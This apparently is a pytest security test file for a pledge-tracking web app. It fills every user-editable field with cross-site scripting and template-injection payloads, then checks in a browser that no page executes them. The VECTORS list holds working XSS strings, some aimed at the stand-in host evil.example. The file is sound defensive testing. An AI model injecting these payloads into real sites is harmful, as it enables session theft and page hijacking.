"""Texts that try to become code, in every field that people fill in: no page runs or loads any of it."""

import shutil
from dataclasses import replace

import pytest

from app.domain.claim import ClaimField, Rank
from app.domain.donor import Donor
from app.domain.event import Event
from app.domain.milestone import Status
from app.domain.package import Package
from app.domain.pledge import LinkKind
from app.domain.quantity import Qualifier, Quantity
from app.domain.source import Source
from app.domain.system import System
from app.domain.when import When
from app.store import editing, history, referred
from app.store.database import Database
from app.store.history import Act
from tests import people
from tests.builders import a_claim, a_delivery, a_link, a_party, a_pledge, a_status, an_amount
from tests.conftest import _page, serving

BREAKS = ("", '">', "'>", "</title>", "</textarea></script>", "--><!--", "\\';//")
VECTORS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1 id=pwned>",
    "<svg id=pwned onload=window.pwned=1>",
    "<iframe id=pwned srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a id=pwned href=javascript:window.pwned=1>go</a>",
    "<details open id=pwned ontoggle=window.pwned=1>",
    "<input id=pwned autofocus onfocus=window.pwned=1>",
    "<b id=pwned hx-get=https://evil.example/ hx-trigger=load>",
    "<form id=pwned action=https://evil.example/><button>go</button></form>",
    "<link id=pwned rel=stylesheet href=https://evil.example/x.css>",
    "<meta id=pwned http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base id=pwned href=https://evil.example/>",
    "{{ 7*7 }}{% include 'base.html' %}<x id=pwned>",
)
PAYLOADS = [f"{before}{vector}" for before in BREAKS for vector in VECTORS]
ADDRESS = 'https://payload.example/"><img src=x onerror=window.pwned=1 id=pwned>'


def everywhere(place, text):
    """A pledge, and all that it refers to, with the text wherever people write something."""
    key = f"payload-{place}"
    donor = Donor(code=f"X{place}", slug=f"x{place}", name=text, name_de=text, name_uk=text, aliases=(text,))
    system = System(code=f"AD.LR.X{place}", slug=key, name=text, aliases=(text,), note=text, maker=text, origin=text)
    source = Source(key=key, url=ADDRESS, title=text, publisher=text, note=text, archive_url=f"javascript:{text}")
    event = Event(slug=key, title=text, place=text, called_by=text, chaired_by=text, account=text, sources=(key,))
    package = Package(key=key, donor=donor.code, title=text, note=text, announced=When(words=text), sources=(key,))
    said = Quantity(Qualifier.ORDER_OF_MAGNITUDE, words=text)
    pledge = a_pledge(
        key=key,
        lead=donor.code,
        system=system.slug,
        event=event.slug,
        package=package.key,
        title=text,
        summary=text,
        note=text,
        supplier=text,
        quantity=said,
        amount=replace(an_amount(5), words=text),
        announced=When(latest=a_pledge().announced.latest, words=text),
        status_pin=Status.CONTRACTED,
        status_pin_reason=text,
        parties=(a_party("NL"),),
        milestones=(a_status(Status.CONTRACTED, note=text, source=key), a_delivery(said, note=text, source=key)),
        claims=(
            a_claim(
                source=key, quantity=said, words=text, quote=text[:300], locator=text, note=text, rank=Rank.PREFERRED
            ),
            a_claim(ClaimField.EXPECTED, key, words=text, dates=When(words=text)),
        ),
        links=(a_link(LinkKind.RELATED, "jan24-patriot-system-germany"),),
    )
    return {"donor": donor, "system": system, "source": source, "event": event, "package": package}, pledge


@pytest.fixture(scope="module")
def poisoned(seeded_file, tmp_path_factory):
    """A server whose records hold every payload in every field; and the numbers of the pledges."""
    folder = tmp_path_factory.mktemp("poisoned")
    file = shutil.copy(seeded_file, folder / "before.sqlite")
    database = Database(f"sqlite:///{file}")
    made = [everywhere(place, text) for place, text in enumerate(PAYLOADS)]
    with database.writing() as db:
        for record in ("donor", "system", "source", "event", "package"):
            effects = referred.save(db, record, [named[record] for named, _ in made])
            history.record(db, Act(author=PAYLOADS[0], comment=PAYLOADS[1]), effects)
        written = editing.create(db, [pledge for _, pledge in made], Act(author=PAYLOADS[2], comment=PAYLOADS[3]))
        numbers = [one.id for one in written]
        editing.edit_all(db, dict.fromkeys(numbers, 1), Act(author=PAYLOADS[4], comment=PAYLOADS[5]), _changed)
    database.close()
    with serving(file, folder) as one:
        yield one, numbers


def _changed(pledge):
    return replace(pledge, note=f"{pledge.note} again", summary=f"{pledge.summary} again")


@pytest.fixture
def editor(browser, poisoned):
    """An editor's browser that fails on dialogs, calls to other hosts and breaches of the policy."""
    served, _ = poisoned
    pages = _page(browser, served.address)
    page = next(pages)
    database = Database(served.database_url)
    key = people.key_of(database, "anna")
    database.close()
    page.context.add_cookies([{"name": "session", "value": key, "url": served.address, "sameSite": "Lax"}])
    opened = []
    page.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
    yield page
    next(pages, None)
    assert opened == []


def is_clean(page):
    return page.evaluate(
        "typeof window.pwned === 'undefined' && !document.querySelector('#pwned, [onerror], [hx-trigger=load]')"
    )


def test_no_list_runs_what_people_wrote(editor):
    for address in ("/", "/pledges?per=100", "/donors", "/systems", "/events", "/sources", "/changes", "/quality"):
        editor.goto(address)
        assert is_clean(editor), address


def test_no_record_runs_what_people_wrote(editor, poisoned):
    for number in poisoned[1]:
        editor.goto(f"/pledges/{number}")
        assert is_clean(editor), number


@pytest.mark.parametrize("path", ["/edit", "/history?from=1&to=2", "/suggest", "/cells/note?edit", "/claims/0"])
def test_no_form_and_no_history_runs_what_people_wrote(editor, poisoned, path):
    for number in poisoned[1][::6]:
        editor.goto(f"/pledges/{number}{path}")
        assert is_clean(editor), number


@pytest.mark.parametrize("kind", ["donors/X", "systems/payload-", "events/payload-"])
def test_no_page_of_what_pledges_refer_to_runs_it(editor, kind):
    for place in range(0, len(PAYLOADS), 6):
        editor.goto(f"/{kind}{place}")
        assert is_clean(editor), place
